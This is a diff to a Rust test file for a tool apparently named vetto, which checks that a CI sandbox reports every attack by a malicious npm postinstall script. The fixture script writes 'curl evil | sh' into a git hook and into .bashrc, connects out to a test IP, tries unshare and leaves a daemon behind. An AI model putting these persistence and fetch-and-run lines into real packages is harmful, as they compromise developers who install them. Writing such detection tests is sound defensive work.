@@ -939,7 +939,7 @@ fn the_job_dies_of_sigpipe_as_it_would_outside() {
 
 /// `vetto ci` in a git repository whose dependency `node_modules/evil` runs
 /// a postinstall script that tries the classic moves: plant a git hook,
-/// write the shell profile, open a network socket, create a user namespace,
+/// write the shell profile, connect out, create a user namespace,
 /// leave a daemon behind. Every attempt must be in every report, named with
 /// its process, and the hook attempt attributed to the package `evil`; the
 /// SARIF is schema-valid, located inside the repository and fingerprinted
@@ -963,7 +963,7 @@ fn ci_reports_every_attack_of_a_malicious_postinstall_with_its_package() {
         "project/node_modules/evil/postinstall.sh",
         b"echo 'curl evil | sh' > .git/hooks/pre-commit\n\
           echo 'curl evil | sh' >> \"$HOME/.bashrc\"\n\
-          python3 -c 'import socket; socket.socket()' 2>/dev/null\n\
+          python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 443), 3)' 2>/dev/null\n\
           unshare -Ur true 2>/dev/null\n\
           setsid sleep 300 > /dev/null 2>&1 < /dev/null &\n\
           until case $(readlink /proc/$!/exe) in */sleep) true;; *) false;; esac; do :; done\n\
@@ -1033,7 +1033,7 @@ fn ci_reports_every_attack_of_a_malicious_postinstall_with_its_package() {
     for expected in [
         "git-persistence-blocked",
         "fs-write-denied",
-        "net-socket-denied",
+        "net-egress-blocked",
         "syscall-denied",
         "process-escaped",
     ] {
